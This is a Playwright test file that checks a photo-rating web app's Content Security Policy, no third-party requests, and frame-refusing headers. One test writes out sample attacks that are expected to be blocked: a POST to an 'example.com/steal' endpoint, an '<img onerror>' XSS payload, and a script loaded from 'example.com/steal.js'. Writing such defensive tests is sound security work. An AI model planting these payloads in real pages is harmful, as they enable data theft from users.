import { expect, ratePhoto, test } from './support/glowcheck.ts';
import { drawnFace } from './support/photos.ts';

test('[PRV-02] [AIX-04] a whole session breaks no policy and asks nobody but its own host', async ({
  page,
  servers,
}) => {
  const strangers: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (!['blob:', 'data:'].includes(protocol) && origin !== servers.product.origin)
      strangers.push(request.url());
  });
  await page.addInitScript(() => {
    const kept: string[] = [];
    (globalThis as unknown as { violations: string[] }).violations = kept;
    document.addEventListener('securitypolicyviolation', (event) =>
      kept.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  await page.goto('/?admin=true');
  await ratePhoto(page, drawnFace('glam'));
  await page.getByRole('button', { name: 'Buy Credits' }).first().click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Analyze Another Look' }).first().click();
  await page.getByRole('button', { name: 'Compare 2 Looks' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(await page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations)).toEqual(
    [],
  );
  expect(strangers).toEqual([]);
});

test('[PRV-02] a script that got in could run nothing of elsewhere and send nothing away', async ({
  page,
  complaints,
}) => {
  await page.goto('/');
  await expect(page.locator('[data-machine="upload"]')).toBeVisible();
  const tried = await page.evaluate(async () => {
    const sent = await fetch('https://example.com/steal', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'blocked',
    );
    const parsed = (() => {
      try {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
        return 'parsed';
      } catch {
        return 'blocked';
      }
    })();
    const added = (() => {
      try {
        const script = document.createElement('script');
        script.src = 'https://example.com/steal.js';
        return 'added';
      } catch {
        return 'blocked';
      }
    })();
    return { sent, parsed, added };
  });
  expect(tried).toEqual({ sent: 'blocked', parsed: 'blocked', added: 'blocked' });
  complaints.length = 0;
});

test('the page carries its policy itself, and the headers refuse frames', async ({ page, servers }) => {
  const answer = await page.request.get(`${servers.product.origin}/`);
  expect(answer.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  expect((await answer.text()).replaceAll('&#39;', "'")).toContain("default-src 'none'");
});
